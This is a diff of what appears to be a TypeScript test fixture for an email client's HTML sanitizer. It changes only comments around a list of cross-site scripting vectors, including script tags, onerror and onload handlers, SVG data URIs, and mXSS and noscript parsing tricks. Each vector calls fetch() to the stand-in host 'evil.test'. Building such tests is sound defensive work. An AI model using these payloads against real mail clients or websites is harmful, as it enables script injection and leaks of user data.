@@ -1,9 +1,9 @@
-/** Where everything that a hostile mail asks for would go, and what its scripts would do. */
+/** The target of all requests of a hostile email, and the payload of its scripts. */
 export const elsewhere = 'evil.test'
 const from = (name: string): string => `https://${elsewhere}/${name}`
 const run = (name: string): string => `fetch('${from(name)}');top.document.title='taken'`
 
-/** Ways in which a page runs something, or asks somebody for something, by itself. */
+/** Ways for a page to run code or make requests on its own. */
 const vectors: readonly string[] = [
   `<script>${run('script')}</script>`,
   `<script src="${from('script-src')}"></script>`,
@@ -53,11 +53,11 @@ const vectors: readonly string[] = [
   `<img src="data:image/svg+xml,<svg onload='${run('data-svg')}' xmlns='http://www.w3.org/2000/svg'><image href='${from('data-svg-image')}'/></svg>">`,
   `<div popover id="p" onbeforetoggle="${run('popover')}">k</div><q cite="${from('cite')}">l</q>`,
   `<math><mtext><table><mglyph><style><img src=x onerror="${run('mxss')}"></style></mglyph></table></mtext></math>`,
-  // Not well formed: whatever cleans it takes what follows with it.
+  // Malformed markup: a naive sanitizer would misparse what follows.
   `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript>`,
 ]
 
-/** A page that tries all of them, and says a few words that a person may read. */
+/** A page that tries all of them, with a few legitimate words. */
 export const hostilePage = `<!doctype html><html><head><title>Hostile</title></head><body>
 <p style="color:#0a6b2e;font-weight:700" id="words">Your fare is still honest.</p>
 <img alt="Our logo" src="cid:logo@desk.test">
@@ -67,7 +67,7 @@ ${vectors.join('\n')}
 const logo =
   'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAFklEQVR42mNkYPhfz0ABYBw1YDAYAACjnQIPfrGN9AAAAABJRU5ErkJggg=='
 
-/** A message that holds a page, one picture of its own, and a file. */
+/** An email with an HTML page, one embedded image and one attachment. */
 export const pageMail = (subject: string, html: string): Buffer =>
   Buffer.from(
     [
